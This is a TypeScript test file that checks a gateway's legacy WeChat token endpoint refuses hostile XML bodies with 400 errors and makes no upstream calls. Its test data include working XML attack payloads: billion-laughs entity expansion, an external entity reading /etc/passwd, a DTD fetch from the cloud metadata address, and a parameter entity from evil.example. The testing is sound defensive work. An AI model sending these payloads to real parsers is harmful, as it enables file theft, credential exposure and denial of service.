import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { tokenReportXml, WEIXIN_NS } from "../dotnet/datacontract-xml.ts";
import { call, type RegisteredApp, registerApp, upstreamTokenCalls } from "../support/gateway.ts";

// SPEC §3/§5: the legacy endpoint reads XML bodies from callers it does not trust. Nothing in one
// may make it expand entities, read files or URLs (a DOCTYPE is refused outright), recurse without
// bound or spend the request on parsing: every such body is a 400 RequestResult (in XML when asked),
// never a 500, and never costs a call to WeChat. Bodies over 64 KB are a 413 before parsing.

type RequestResult = { Data: unknown; Status: number; Message: string; Total: number };

let app: RegisteredApp;
const path = () => `/api/v1/Common/WxToken?appid=${app.appId}`;

beforeAll(async () => {
  app = await registerApp("gw-legacy-hostile", "wxgwlegacyhost1");
});

function post(body: string, contentType = "application/xml", accept?: string) {
  return call<RequestResult>("POST", path(), {
    token: app.apiKey,
    headers: { "Content-Type": contentType, ...(accept ? { Accept: accept } : {}) },
    body,
  });
}

const open = `<WxAccess_Token xmlns="${WEIXIN_NS}">`;
const close = "</WxAccess_Token>";
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join(
  "",
);

const HOSTILE: [string, string, RegExp][] = [
  [
    "billion laughs",
    `<?xml version="1.0"?><!DOCTYPE WxAccess_Token [<!ENTITY lol0 "lol">${laughs}]>${open}<access_token>&lol9;</access_token>${close}`,
    /DOCTYPE/,
  ],
  [
    "external entity (file)",
    `<!DOCTYPE WxAccess_Token [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${open}<access_token>&xxe;</access_token>${close}`,
    /DOCTYPE/,
  ],
  [
    "external DTD (URL)",
    `<!DOCTYPE WxAccess_Token SYSTEM "http://169.254.169.254/latest/meta-data/">${open}${close}`,
    /DOCTYPE/,
  ],
  [
    "parameter entity",
    `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${open}${close}`,
    /DOCTYPE/,
  ],
  ["undeclared entity", `${open}<access_token>&xxe;</access_token>${close}`, /entity references/],
  [
    "entity in an attribute",
    `<WxAccess_Token xmlns="&xxe;"><access_token>a</access_token>${close}`,
    /entity/,
  ],
  ["a DOCTYPE after a comment", `<!-- hi --><!DOCTYPE x>${open}${close}`, /DOCTYPE/],
  ["a DOCTYPE inside the root", `${open}<!DOCTYPE x><access_token>a</access_token>${close}`, /DOCTYPE/],
  ["an ENTITY declaration inside the root", `${open}<!ENTITY x "y">${close}`, /declarations/],
  ["a reference to NUL", `${open}<access_token>a&#0;b</access_token>${close}`, /character/],
  ["a reference past Unicode", `${open}<access_token>&#x110000;</access_token>${close}`, /character/],
  ["deep nesting", `${open}${"<a>".repeat(8_000)}${"</a>".repeat(8_000)}${close}`, /deeper/],
  ["unclosed deep nesting", `${open}${"<a>".repeat(15_000)}`, /deeper|ends/],
  ["mismatched end tag", `${open}<access_token>a</access_tokn>${close}`, /expected/],
  ["unterminated", `${open}<access_token>abc`, /missing|ends/],
  ["two roots", `${open}${close}${open}${close}`, /after the root/],
  ["text after the root", `${open}${close}trailing`, /after the root/],
  ["an undeclared prefix", `<x:WxAccess_Token><access_token>a</access_token></x:WxAccess_Token>`, /prefix/],
  ["an attribute twice", `<WxAccess_Token xmlns="${WEIXIN_NS}" a="1" a="2">${close}`, /twice/],
  ["an unquoted attribute", `<WxAccess_Token xmlns=${WEIXIN_NS}>${close}`, /quoted/],
  ["'<' in an attribute", `<WxAccess_Token xmlns="${WEIXIN_NS}" a="<">${close}`, /attribute/],
  ["an unterminated comment", `${open}<!-- ${"x".repeat(1000)}`, /comment/],
  ["an unterminated CDATA", `${open}<access_token><![CDATA[abc`, /CDATA/],
  ["no root", "<?xml version='1.0'?><!-- nothing -->", /no root/],
  ["not XML at all", "access_token=abc", /not XML/],
  [
    "many attributes",
    `<WxAccess_Token xmlns="${WEIXIN_NS}" ${Array.from({ length: 4000 }, (_, i) => `a${i}="${i}"`).join(" ")}>`,
    /unterminated|ends/,
  ],
];

describe("legacy WxToken, hostile XML bodies", () => {
  it.each(HOSTILE)("refuses %s with a 400 RequestResult", async (_, body, reason) => {
    const before = await upstreamTokenCalls(app.appId);
    for (const contentType of ["application/xml", "text/xml; charset=utf-8"]) {
      const answer = await post(body, contentType);
      expect(answer.status).toBe(400);
      expect(answer.body).toEqual({
        Data: null,
        Status: 1,
        Message: expect.stringMatching(reason),
        Total: 0,
      });
    }
    const xml = await post(body, "application/xml", "application/xml");
    expect(xml.status).toBe(400);
    expect(xml.body).toMatch(
      /^<RequestResultOfWxAccess_TokenFEB0ySd7 [^>]+><Message>[^<]+<\/Message><Status>1<\/Status>/,
    );
    expect(await upstreamTokenCalls(app.appId)).toBe(before);
  });

  it("never leaks what an entity would have named into the answer", async () => {
    const answer = await post(
      `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${open}<access_token>&xxe;</access_token>${close}`,
    );
    expect(JSON.stringify(answer.body)).not.toMatch(/root:|passwd/);
  });

  it("refuses an XML body over 64 KB with 413 before reading it", async () => {
    const answer = await post(`${open}<access_token>${"a".repeat(70_000)}</access_token>${close}`);
    expect(answer.status).toBe(413);
    expect(answer.body).toMatchObject({ Data: null, Status: 1, Total: 0 });
  });

  it("answers a RequestResult, never a 500, for XML-like bodies of any shape", async () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "<",
        ">",
        "/>",
        "</",
        "<?",
        "?>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<!DOCTYPE",
        "&",
        ";",
        "&#",
        "&#x",
        "&lt;",
        '"',
        "'",
        "=",
        ":",
        "xmlns",
        "xmlns:i",
        "i:nil",
        "WxAccess_Token",
        "access_token",
        WEIXIN_NS,
        " ",
        "\n",
        "\uFEFF",
        "\uD800",
      ),
      fc.string({ maxLength: 6 }),
    );
    const body = fc.oneof(
      fc.array(piece, { maxLength: 40 }).map((parts) => parts.join("")),
      fc
        .array(piece, { maxLength: 12 })
        .map((parts) => tokenReportXml("t").replace("<access_token>", `<access_token>${parts.join("")}`)),
    );
    await fc.assert(
      fc.asyncProperty(body, fc.constantFrom("application/xml", "text/xml"), async (text, contentType) => {
        const answer = await post(text, contentType);
        expect([200, 400], text).toContain(answer.status);
        expect(Object.keys(answer.body).sort(), text).toEqual(["Data", "Message", "Status", "Total"]);
        expect(answer.body.Status, text).toBe(answer.status === 200 ? 0 : 1);
      }),
      { numRuns: 150 },
    );
  });
});
